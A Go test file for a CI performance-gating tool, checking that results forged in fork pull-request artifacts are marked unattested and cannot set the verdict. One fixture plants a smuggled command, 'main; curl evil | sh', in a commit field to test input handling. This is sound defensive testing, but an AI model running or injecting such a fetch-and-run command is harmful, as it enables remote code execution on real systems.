package main

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"errors"
	"path/filepath"
	"strings"
	"testing"

	"github.com/perfcheck/perfcheck/action/githubtest"
)

// The first stage of a fork's pull request posts nothing, the second what the
// runs say, whatever the artifact claims.
func TestPublishFork(t *testing.T) {
	for name, test := range map[string]struct {
		forge func(map[string]any)
		args  []string
		state string
		text  string
	}{
		"honest":        {func(map[string]any) {}, nil, "failure", "p50"},
		"claims a pass": {claim("pass"), nil, "failure", "p50"},
		"claims to have skipped": {func(o map[string]any) {
			claim("skipped")(o)
			delete(o, "runs")
		}, []string{"--paths", "**"}, "error", "files changed that matter"},
		"claims without runs": {func(o map[string]any) {
			claim("pass")(o)
			delete(o, "runs")
		}, nil, "error", "no measurement"},
		"one side": {func(o map[string]any) { o["runs"] = o["runs"].([]any)[:1] }, nil, "error", "was not measured"},
		"skipped truly": {func(o map[string]any) {
			claim("skipped")(o)
			delete(o, "runs")
		}, []string{"--paths", "docs/**"}, "success", "nothing that matters changed"},
		"another profile": {func(o map[string]any) {
			for _, run := range o["runs"].([]any) {
				run.(map[string]any)["digest"] = "sha256:of-its-own"
			}
		}, nil, "error", "measured by another perfcheck.yml"},
		"no commit": {func(o map[string]any) {
			for _, run := range o["runs"].([]any) {
				run.(map[string]any)["subject"].(map[string]any)["commit"] = "main; curl evil | sh"
			}
		}, nil, "error", "no result could be read"},
		"many blocks": {func(o map[string]any) {
			run := o["runs"].([]any)[0].(map[string]any)
			for range 200 {
				run["trials"] = append(run["trials"].([]any), run["trials"].([]any)[0])
			}
		}, nil, "error", "trials"},
		"another run":    {func(o map[string]any) { o["run"].(map[string]any)["id"] = 999 }, nil, "error", "of another run"},
		"a later try":    {func(o map[string]any) { o["run"].(map[string]any)["attempt"] = 2 }, nil, "error", "of another run"},
		"another commit": {func(o map[string]any) { o["commit"] = strings.Repeat("a", 40) }, nil, "error", "of another run"},
		"another suite":  {func(o map[string]any) { o["suite"] = "other" }, nil, "error", "suite"},
		"unknown field":  {func(o map[string]any) { o["thresholds"] = 1 }, nil, "error", "unknown field"},
	} {
		t.Run(name, func(t *testing.T) {
			w, github := publishes(t, "mallory/shop", writing...)
			if code := w.perfcheck("publish"); code != exitOK || len(github.Requests()) != 0 {
				t.Fatalf("first stage: exit code %d, requests %q", code, github.Requests())
			}
			github.AddFiles(7, "behaviour.go")
			github.AddArtifact(1000, githubtest.Artifact{Name: "perfcheck-default", Archive: w.forged(test.forge)})
			w.secondStage(github)
			if code := w.perfcheck(append([]string{"publish"}, test.args...)...); code != exitOK {
				t.Fatalf("exit code %d", code)
			}
			s := github.Statuses(w.head)
			if len(s) != 1 || s[0].State != test.state || !strings.Contains(s[0].Description, test.text) {
				t.Errorf("statuses %+v, want %s with %q", s, test.state, test.text)
			}
			const measured = "https://github.com/acme/shop/actions/runs/1000/attempts/1"
			if !strings.HasPrefix(s[0].Description, "unattested: ") || s[0].URL != measured {
				t.Errorf("status %+v: want one that is unattested, and leads to %s", s[0], measured)
			}
			c := github.Comments(7)
			if len(c) != 1 {
				t.Fatalf("comments %+v", c)
			}
			wantText(t, "comment", c[0].Body, "Unattested", "<"+measured+"#artifacts>", "<"+measured+">")
			if strings.Contains(c[0].Body, "evil") {
				t.Errorf("the comment has what a stranger chose:\n%s", c[0].Body)
			}
			wantText(t, "summary", w.read(w.summary), "Unattested")
		})
	}
}

// The pull request's own thresholds decide nothing in the second stage.
func TestPublishForkByTheDefaultBranch(t *testing.T) {
	w, github := publishes(t, "mallory/shop", writing...)
	github.AddArtifact(1000, githubtest.Artifact{Name: "perfcheck-default", Archive: w.forged(func(map[string]any) {})})
	w.secondStage(github)
	w.write("perfcheck.yml", strings.Replace(w.read("perfcheck.yml"), "    scenarios:", "    gate: {p50: 90%, p90: 90%, p99: 90%, tail: 90%, steps: {work: {p50: 90%}}}\n    scenarios:", 1))
	if code := w.perfcheck("publish"); code != exitOK {
		t.Fatalf("exit code %d", code)
	}
	if s := github.Statuses(w.head); len(s) != 1 || s[0].State != "success" {
		t.Errorf("statuses %+v", s)
	}
}

// Two pull requests of one commit: it gets the status, and neither a comment.
func TestPublishForkOfManyPulls(t *testing.T) {
	for name, test := range map[string]struct {
		forge       func(map[string]any)
		state, text string
	}{
		"measured": {func(map[string]any) {}, "failure", "p50"},
		"skipped":  {claim("skipped"), "error", "which pull request"},
	} {
		t.Run(name, func(t *testing.T) {
			w, github := publishes(t, "mallory/shop", writing...)
			github.AddPull(githubtest.Pull{Number: 8, Head: "mallory:hash-more", HeadSHA: w.head, Base: "next", BaseSHA: w.main})
			github.AddArtifact(1000, githubtest.Artifact{Name: "perfcheck-default", Archive: w.forged(test.forge)})
			w.secondStage(github)
			if code := w.perfcheck("publish", "--paths", "docs/**"); code != exitOK {
				t.Fatalf("exit code %d", code)
			}
			w.wantStatus(github, test.state, test.text)
			if len(github.Comments(7))+len(github.Comments(8)) != 0 {
				t.Errorf("comments %+v, %+v", github.Comments(7), github.Comments(8))
			}
		})
	}
}

// Whatever keeps the second stage from a verdict, the commit is told.
func TestPublishForkAlwaysSetsAStatus(t *testing.T) {
	for name, test := range map[string]struct {
		change      func(*workplace, *githubtest.Server)
		args        []string
		code        int
		state, text string
	}{
		"no configuration": {func(w *workplace, _ *githubtest.Server) { w.write("perfcheck.yml", "version: 2\n") }, nil, exitUsage, "error", "perfcheck.yml:1"},
		"no such profile":  {func(*workplace, *githubtest.Server) {}, []string{"--profile", "none"}, exitUsage, "error", "none"},
		"a wrong flag":     {func(*workplace, *githubtest.Server) {}, []string{"--fail-on", "regresion"}, exitUsage, "error", "regresion"},
		"pull requests cannot be listed": {func(_ *workplace, github *githubtest.Server) {
			github.Inject("GET", "/pulls", githubtest.Fault{Status: 422, Body: `{"message": "Validation Failed"}`})
		}, nil, exitInvalid, "error", "Validation Failed"},
		"pull requests may not be listed": {func(w *workplace, github *githubtest.Server) {
			w.t.Setenv("GITHUB_TOKEN", github.Token("contents: read", "statuses: write", "actions: read"))
		}, nil, exitOK, "failure", "p50"},
		"artifacts may not be read": {func(w *workplace, github *githubtest.Server) {
			w.t.Setenv("GITHUB_TOKEN", github.Token(writing...))
		}, nil, exitOK, "error", "no result could be read"},
	} {
		t.Run(name, func(t *testing.T) {
			w, github := publishes(t, "mallory/shop", writing...)
			github.AddArtifact(1000, githubtest.Artifact{Name: "perfcheck-default", Archive: w.forged(func(map[string]any) {})})
			w.secondStage(github)
			test.change(w, github)
			if code := w.perfcheck(append([]string{"publish"}, test.args...)...); code != test.code {
				t.Errorf("exit code %d, want %d", code, test.code)
			}
			w.wantStatus(github, test.state, test.text)
		})
	}
}

// From the moment that a fork's run is asked for, its commit is pending.
func TestPublishForkPending(t *testing.T) {
	w, github := publishes(t, "mallory/shop", writing...)
	w.secondStage(github)
	w.event("workflow_run", w.workflowRun("requested"))
	if code := w.perfcheck("publish"); code != exitOK {
		t.Fatalf("exit code %d", code)
	}
	w.wantStatus(github, "pending", "measuring")
	if s := github.Statuses(w.head)[0]; !strings.HasSuffix(s.URL, "/actions/runs/1000/attempts/1") || len(github.Comments(7)) != 0 {
		t.Errorf("status %+v, comments %+v", s, github.Comments(7))
	}
}

// A pass that nobody vouches for is always told.
func TestPublishForkOnChange(t *testing.T) {
	w, github := publishes(t, "mallory/shop", writing...)
	w.measuredAgain(1)
	github.AddArtifact(1000, githubtest.Artifact{Name: "perfcheck-default", Archive: w.forged(func(map[string]any) {})})
	w.secondStage(github)
	t.Setenv("GITHUB_TOKEN", github.Token(append(writing, "actions: read", "checks: write")...))
	if code := w.perfcheck("publish", "--comment", "on-change", "--check-run"); code != exitOK {
		t.Fatalf("exit code %d", code)
	}
	if c := github.Checks(w.head); len(c) != 1 || !strings.HasPrefix(c[0].Output.Title, "unattested: pass") || !strings.HasSuffix(c[0].URL, "/actions/runs/1000/attempts/1") {
		t.Errorf("checks %+v", c)
	}
	w.wantStatus(github, "success", "unattested: pass")
	if c := github.Comments(7); len(c) != 1 {
		t.Errorf("comments %+v", c)
	}
}

// A fork's regression is accepted by whoever may change the default branch.
func TestPublishForkAccept(t *testing.T) {
	w, github := publishes(t, "mallory/shop", writing...)
	github.AddArtifact(1000, githubtest.Artifact{Name: "perfcheck-default", Archive: w.forged(func(map[string]any) {})})
	w.secondStage(github)
	if code := w.perfcheck("publish", "--config", "perfcheck.yml", "--profile", "quick"); code != exitOK {
		t.Fatalf("exit code %d", code)
	}
	wantText(t, "comment", github.Comments(7)[0].Body, "a maintainer has to put the perfcheck.accept.yml",
		"refs/pull/7/merge && perfcheck compare --config 'perfcheck.yml' --profile 'quick' "+w.main+" FETCH_HEAD")
}

func TestPublishForkThatMovedOn(t *testing.T) {
	w, github := publishes(t, "mallory/shop", writing...)
	w.secondStage(github)
	github.AddPull(githubtest.Pull{Number: 7, Head: "mallory:hash-more", HeadSHA: strings.Repeat("a", 40), BaseSHA: w.main})
	if code := w.perfcheck("publish"); code != exitOK || len(github.Statuses(w.head)) != 0 || len(github.Comments(7)) != 0 {
		t.Errorf("exit code %d, statuses %+v", code, github.Statuses(w.head))
	}
	wantText(t, "stderr", w.errors.String(), "moved on")
}

// claim changes the verdict that an outcome states.
func claim(verdict string) func(map[string]any) {
	return func(o map[string]any) {
		o["comparison"].(map[string]any)["verdict"] = verdict
	}
}

// forged is the archive of what gate left, changed.
func (w *workplace) forged(change func(map[string]any)) []byte {
	w.t.Helper()
	var o map[string]any
	dec := json.NewDecoder(strings.NewReader(w.read(filepath.Join(gateDir, outcomeFile))))
	dec.UseNumber() // seeds are larger than a float64 can tell apart
	if err := dec.Decode(&o); err != nil {
		w.t.Fatal(err)
	}
	change(o)
	data, err := json.Marshal(o)
	if err != nil {
		w.t.Fatal(err)
	}
	var archive bytes.Buffer
	z := zip.NewWriter(&archive)
	f, err := z.Create(outcomeFile)
	if err == nil {
		_, err = f.Write(data)
	}
	if err := errors.Join(err, z.Close()); err != nil {
		w.t.Fatal(err)
	}
	return archive.Bytes()
}

// secondStage is the workplace of the workflow that workflow_run starts.
func (w *workplace) secondStage(github *githubtest.Server) {
	w.t.Helper()
	w.git("checkout", "-q", "main")
	w.t.Setenv("GITHUB_TOKEN", github.Token(append(writing, "actions: read")...))
	w.t.Setenv("GITHUB_SHA", w.main)
	w.t.Setenv("GITHUB_REF", "refs/heads/main")
	w.t.Setenv("GITHUB_RUN_ID", "1001")
	w.event("workflow_run", w.workflowRun("completed"))
}

// workflowRun is the payload that says what became of run 1000, of mallory's branch.
func (w *workplace) workflowRun(action string) map[string]any {
	return map[string]any{
		"action": action,
		"workflow_run": map[string]any{
			"id": 1000, "run_attempt": 1, "event": "pull_request", "head_branch": "hash-more", "head_sha": w.head,
			"head_repository": map[string]any{"owner": map[string]any{"login": "mallory"}},
		},
		"repository": map[string]any{"full_name": "acme/shop", "default_branch": "main"},
	}
}
